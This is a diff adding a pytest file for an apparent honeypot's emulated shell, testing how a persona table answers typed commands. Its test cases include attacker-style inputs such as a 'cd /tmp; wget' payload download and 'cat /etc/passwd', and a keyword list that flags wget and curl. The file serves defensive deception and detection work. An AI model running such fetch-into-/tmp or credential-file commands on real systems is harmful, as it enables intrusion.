@@ -0,0 +1,48 @@
+# test_shell.py - persona command table dispatch
+import pytest
+
+import shell
+
+PERSONA = {
+    "banner": "login: ",
+    "prompt": "> ",
+    "exit": {"commands": ["exit", "quit"], "response": "Logout\r\n"},
+    "exact": {"/user print": "0 admin full\r\n"},
+    "exact_nocase": {"ls": "bin etc\r\n"},
+    "prefix_nocase": {"cat ": "root:x:0:0\r\n", "cat /proc/": "cpu: MIPS\r\n"},
+    "keywords": [
+        {"contains": ["wget", "curl"], "response": "Downloading...\r\n"},
+        {"pattern": r"^enable\b", "nocase": True, "response": "enabled\r\n"},
+    ],
+    "empty": "",
+    "not_found": "sh: {cmd}: not found\r\n",
+}
+
+@pytest.fixture(params=[0, 16], ids=["no memo", "memo"])
+def table(request):
+    return shell.CommandTable(PERSONA, memo_size=request.param)
+
+@pytest.mark.parametrize("cmd, text, close", [
+    ("/user print", "0 admin full\r\n", False),
+    ("/USER print", "sh: /USER print: not found\r\n", False),
+    ("LS", "bin etc\r\n", False),
+    ("Exit", "Logout", True),
+    ("cat /etc/passwd", "root:x:0:0\r\n", False),
+    ("CAT /proc/cpuinfo", "cpu: MIPS\r\n", False),  # the longest prefix wins
+    ("cd /tmp; wget http://x/m", "Downloading...\r\n", False),
+    ("cat x | curl", "root:x:0:0\r\n", False),  # prefixes before keywords
+    ("ENABLE now", "enabled\r\n", False),
+    ("   ", "", False),
+    ("uname -a", "sh: uname -a: not found\r\n", False),
+])
+def test_dispatch(table, cmd, text, close):
+    for _ in range(2):  # the memoized answer is the same
+        payload, logged, closing = table.dispatch(cmd)
+        assert logged == text and closing is close
+        assert payload == (text + "\r\n" if close else text).encode() + (b"" if close else b"> ")
+
+def test_default_persona_matches_the_old_chain():
+    import bench_commands
+    table = shell.load_persona(memo_size=0)
+    for cmd in bench_commands.WORKLOAD:
+        assert table.dispatch(cmd)[0] == bench_commands.legacy_dispatch(cmd)